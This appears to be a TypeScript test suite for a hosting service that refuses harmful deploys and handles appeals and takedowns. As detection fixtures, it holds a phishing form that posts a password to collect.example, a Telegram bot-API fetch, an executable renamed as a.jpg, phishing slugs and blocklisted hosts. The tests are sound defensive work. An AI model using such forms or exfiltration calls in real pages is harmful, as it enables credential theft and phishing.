/** Tests of refused deploys: findings, appeal page and decisions. */
import assert from 'node:assert/strict'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, suite, test } from 'node:test'
import { slugOf } from '../../../../test/fixtures/data/data.ts'
import { openTestRuntime } from '../../../../test/fixtures/runtime.ts'
import {
  filesFromTexts,
  newSiteOwner,
  newSlug,
} from '../../../../test/fixtures/sites/site-owner.ts'
import { limits } from '../../../contract/limits.ts'
import { storeFile } from '../../files/service.ts'
import * as projects from '../../projects/service.ts'
import { submitAppeal, findAppeal } from './appeals.ts'
import { decide, listReviews, restoreOnline, takeOffline } from './moderation.ts'
import { deleteOldRefusals } from './review-jobs.ts'

const runtime = await openTestRuntime({ work: false })
const { db } = runtime.runtime
const folder = mkdtempSync(join(tmpdir(), 'homeport-bad-links-'))
after(() => rmSync(folder, { recursive: true, force: true }))
const list = join(folder, 'bad-links.txt')
writeFileSync(list, 'bad.example  link  phishing in July\n')
const listed = await openTestRuntime({ work: false, settings: { HOMEPORT_BAD_LINKS: list } })

const page = '<!doctype html><title>Bread</title>'
const stealing = `${page}\n<form action="https://collect.example"><input type="password"></form>`
const signIn = `${page}<form action="/api/login"><input type="password"></form>`
const REVIEWS_MAX = 200

function tokenOf(appeal_url: string): string {
  const { origin } = new URL(runtime.runtime.config.public_url)
  assert.ok(appeal_url.startsWith(`${origin}/portal/appeals/`), appeal_url)
  return appeal_url.split('/').at(-1) ?? ''
}

async function refusedSite() {
  const owner = await newSiteOwner(runtime)
  const slug = newSlug()
  const body = { slug, files: filesFromTexts({ 'index.html': stealing }) }
  const refused = await owner.call('POST /sites', body)
  assert.deepEqual([refused.status, slugOf(refused)], [422, 'site_blocked'], refused.text)
  return { ...owner, slug, body, refused, token: tokenOf(refused.body.appeal_url) }
}

async function reviewOf(project_id: string) {
  const all = await listReviews(db, { open: false, count: REVIEWS_MAX })
  const [review] = all.filter((one) => one.project_id === project_id)
  assert.ok(review)
  return review
}

suite('a deploy that breaks a rule', () => {
  test('is refused with the finding, its place, the reason and the fix', async () => {
    const { refused } = await refusedSite()
    assert.match(
      refused.body.detail,
      /^index\.html, line 2: This form sends a password to collect\.example\. A page that /,
    )
    const [finding, ...more] = refused.body.findings
    assert.deepEqual(more, [])
    const { path, line, rule } = finding
    assert.deepEqual([path, line, rule], ['index.html', 2, 'password_sent_elsewhere'])
    for (const words of [finding.what, finding.why, finding.instead]) assert.match(words, /\.$/)
    assert.match(refused.body.next_step, /appeal_url/)
  })

  test('publishes nothing and leaves the slug available', async () => {
    const { call, slug } = await refusedSite()
    assert.deepEqual((await call('GET /sites')).body.data, [])
    const files = filesFromTexts({ 'index.html': page })
    assert.equal((await call('POST /sites', { slug, files })).status, 201)
  })

  test('leaves the live version unchanged', async () => {
    const { publish, call } = await newSiteOwner(runtime)
    const site = await publish({ 'index.html': page })
    const files = filesFromTexts({ 'login.html': stealing })
    const refused = await call(`PUT /sites/${site.id}`, { files, keep_others: true })
    assert.equal(slugOf(refused), 'site_blocked')
    assert.match(refused.body.detail, /^login\.html, line 2: /)
    assert.equal((await call(`GET /sites/${site.id}`)).body.version, 1)
  })

  test('is refused also if the file was uploaded before', async () => {
    const { publish, call, project_id } = await newSiteOwner(runtime)
    const site = await publish({ 'index.html': page })
    const project = await projects.find(db, project_id)
    assert.ok(project)
    const { sha256, bytes } = await storeFile(runtime.runtime, project, Buffer.from(stealing))
    const body = { files: [{ path: 'index.html', sha256, bytes }] }
    assert.equal(slugOf(await call(`PUT /sites/${site.id}`, body)), 'site_blocked')
  })

  test('is refused for an executable under any file name', async () => {
    const { call } = await newSiteOwner(runtime)
    const content = Buffer.from('\x7fELF\x02\x01\x01', 'latin1').toString('base64')
    const files = [
      ...filesFromTexts({ 'index.html': page }),
      { path: 'a.jpg', content, encoding: 'base64' },
    ]
    const refused = await call('POST /sites', { slug: newSlug(), files })
    assert.match(refused.body.detail, /^a\.jpg: This file is a Linux program\./)
  })

  test('is checked together with the files kept from the live version', async () => {
    const { publish, call } = await newSiteOwner(runtime)
    const site = await publish({ 'index.html': page, 'login.html': signIn })
    const bot = filesFromTexts({ 'a.js': 'fetch("https://api.telegram.org/bot1:A/sendMessage")' })
    const refused = await call(`PUT /sites/${site.id}`, { files: bot, keep_others: true })
    assert.match(refused.body.detail, /^a\.js, line 1: /)
  })

  test('is checked against the new address on PUT and PATCH', async () => {
    const { publish, call } = await newSiteOwner(runtime)
    const site = await publish({ 'index.html': signIn })
    const renamed = await call(`PATCH /sites/${site.id}`, { slug: 'paypal-login' })
    assert.deepEqual([renamed.status, slugOf(renamed)], [422, 'site_blocked'])
    const files = filesFromTexts({ 'index.html': signIn })
    const put = await call(`PUT /sites/${site.id}`, { files, slug: 'mijn-ing-inloggen' })
    assert.equal(slugOf(put), 'site_blocked')
    assert.equal((await call(`PATCH /sites/${site.id}`, { slug: newSlug() })).status, 200)
  })

  test('is checked in a worker thread if it is large, with the same result', async () => {
    const { call } = await newSiteOwner(runtime)
    const text = `${page}${'<p>Bread is baked every day.</p>\n'.repeat(12_000)}`
    const fine = { slug: newSlug(), files: filesFromTexts({ 'index.html': text }) }
    assert.equal((await call('POST /sites', fine)).status, 201)
    const files = filesFromTexts({ 'index.html': text, 'z.html': stealing })
    const refused = await call('POST /sites', { slug: newSlug(), files })
    assert.match(refused.body.detail, /^z\.html, line 2: /)
  })
})

suite('a review', () => {
  test('keeps its page for the same refusal, and gets a new page for another one', async () => {
    const { call, body, refused } = await refusedSite()
    const again = await call('POST /sites', body)
    assert.equal(again.body.appeal_url, refused.body.appeal_url)
    const files = filesFromTexts({ 'index.html': stealing.replace('collect', 'gather') })
    const other = await call('POST /sites', { ...body, files })
    assert.notEqual(other.body.appeal_url, refused.body.appeal_url)
  })

  test('is not shared with another project that uses the same slug', async () => {
    const { body, refused } = await refusedSite()
    const other = await newSiteOwner(runtime)
    const theirs = await other.call('POST /sites', body)
    assert.notEqual(theirs.body.appeal_url, refused.body.appeal_url)
  })

  test('stores only the hash of its token', async () => {
    const { project_id, token } = await refusedSite()
    const review = await reviewOf(project_id)
    assert.equal(JSON.stringify(review).includes(token), false)
    assert.equal(review.token_hash.length, 32)
  })

  test('is deleted after the appeal period, unless an appeal or a decision exists', async () => {
    const [quiet, appealed, decided] = [
      await refusedSite(),
      await refusedSite(),
      await refusedSite(),
    ]
    await submitAppeal(runtime.runtime, appealed.token, { message: 'No.', email: '' })
    const { id } = await reviewOf(decided.project_id)
    await decide(runtime.runtime, { review_id: id, decision: 'allowed', note: null })
    runtime.passes(`${limits.site_review_kept_s + 1} seconds`)
    await deleteOldRefusals.run(runtime.runtime)
    const tokens = [quiet, appealed, decided].map(({ token }) => findAppeal(runtime.runtime, token))
    const there = (await Promise.all(tokens)).map((found) => found !== null)
    assert.deepEqual(there, [false, true, true])
  })
})

suite('the blocklist of an operator', () => {
  test('applies to deploys in addition to the built-in blocklist', async () => {
    const { call } = await newSiteOwner(listed)
    const link = (host: string) =>
      filesFromTexts({ 'index.html': `${page}<a href="https://${host}/x">x</a>` })
    for (const [host, reason] of [
      ['login.bad.example', 'phishing in July'],
      ['grabify.link', 'records the address'],
    ] as const) {
      const refused = await call('POST /sites', { slug: newSlug(), files: link(host) })
      assert.equal(slugOf(refused), 'site_blocked')
      assert.match(refused.body.detail, new RegExp(`This is an address on ${host}: ${reason}`))
    }
    const fine = await call('POST /sites', { slug: newSlug(), files: link('good.example') })
    assert.equal(fine.status, 201)
  })
})

suite('an allowed finding', () => {
  test('no longer blocks this deploy or later ones', async () => {
    const { call, body, project_id } = await refusedSite()
    const { id } = await reviewOf(project_id)
    await decide(runtime.runtime, { review_id: id, decision: 'allowed', note: null })
    const created = await call('POST /sites', body)
    assert.equal(created.status, 201, created.text)
    const files = filesFromTexts({ 'index.html': `${stealing}<p>More</p>` })
    assert.equal((await call(`PUT /sites/${created.body.id}`, { files })).status, 200)
  })

  test('allows only that finding and no other', async () => {
    const { call, body, project_id } = await refusedSite()
    const { id } = await reviewOf(project_id)
    await decide(runtime.runtime, { review_id: id, decision: 'allowed', note: null })
    const files = filesFromTexts({ 'index.html': stealing.replace('collect', 'gather') })
    assert.equal(slugOf(await call('POST /sites', { ...body, files })), 'site_blocked')
    const elsewhere = { ...body, slug: newSlug() }
    assert.equal(slugOf(await call('POST /sites', elsewhere)), 'site_blocked')
  })

  test('stays blocked if the decision is upheld', async () => {
    const { call, body, project_id } = await refusedSite()
    const { id } = await reviewOf(project_id)
    await decide(runtime.runtime, { review_id: id, decision: 'upheld', note: 'It does.' })
    assert.equal(slugOf(await call('POST /sites', body)), 'site_blocked')
  })
})

suite('an offline site', () => {
  async function offlineSite() {
    const owner = await newSiteOwner(runtime)
    const site = await owner.publish({ 'index.html': page })
    const reason = 'Phishing was reported'
    const taken = await takeOffline(runtime.runtime, { id: site.id, reason })
    assert.ok(taken)
    return { ...owner, site, taken, token: tokenOf(taken.appeal_url) }
  }

  test('refuses every change with the reason and the link of the appeal page', async () => {
    const { call, site, taken } = await offlineSite()
    const shown = (await call(`GET /sites/${site.id}`)).body
    assert.deepEqual([shown.status, shown.status_reason], ['offline', 'Phishing was reported'])
    const files = filesFromTexts({ 'index.html': page })
    for (const refused of [
      await call(`PUT /sites/${site.id}`, { files }),
      await call(`PATCH /sites/${site.id}`, { title: 'x' }),
      await call(`POST /sites/${site.id}/rollback`, {}),
    ]) {
      assert.deepEqual([refused.status, slugOf(refused)], [403, 'site_offline'])
      assert.equal(refused.body.detail, 'The site was taken offline: Phishing was reported.')
      assert.equal(refused.body.appeal_url, taken.appeal_url)
    }
  })

  test('is online again after the operator restores it or allows its findings', async () => {
    const one = await offlineSite()
    assert.equal((await restoreOnline(runtime.runtime, one.site.id))?.status, 'live')
    assert.equal((await one.call(`GET /sites/${one.site.id}`)).body.status_reason, null)
    const other = await offlineSite()
    const { id } = await reviewOf(other.project_id)
    await decide(runtime.runtime, { review_id: id, decision: 'allowed', note: null })
    assert.equal((await other.call(`GET /sites/${other.site.id}`)).body.status, 'live')
  })

  test('is blocked permanently if the decision is upheld', async () => {
    const { call, site, project_id } = await offlineSite()
    const { id } = await reviewOf(project_id)
    await decide(runtime.runtime, { review_id: id, decision: 'upheld', note: null })
    assert.equal((await call(`GET /sites/${site.id}`)).body.status, 'blocked')
  })

  test('has one appeal page, which starts again after another takedown', async () => {
    const { site, taken, token } = await offlineSite()
    await submitAppeal(runtime.runtime, token, { message: 'No.', email: '' })
    await restoreOnline(runtime.runtime, site.id)
    const again = await takeOffline(runtime.runtime, { id: site.id, reason: 'Again' })
    assert.equal(again?.appeal_url, taken.appeal_url)
    const found = await findAppeal(runtime.runtime, token)
    assert.deepEqual([found?.appeal, found?.findings[0]?.what], [null, 'Again'])
  })

  test('accepts appeals while it is offline', async () => {
    const { token } = await offlineSite()
    runtime.passes(`${2 * limits.site_review_kept_s} seconds`)
    await deleteOldRefusals.run(runtime.runtime)
    assert.ok(await findAppeal(runtime.runtime, token))
  })

  test('is answered with 404 for an id that is not a site', async () => {
    const id = '01890b2c-7d4e-7a1b-9c3d-5e6f7a8b9c0d'
    assert.equal(await takeOffline(runtime.runtime, { id, reason: 'x' }), null)
    assert.equal(await restoreOnline(runtime.runtime, id), null)
    assert.equal(
      await decide(runtime.runtime, { review_id: id, decision: 'upheld', note: null }),
      null,
    )
  })
})
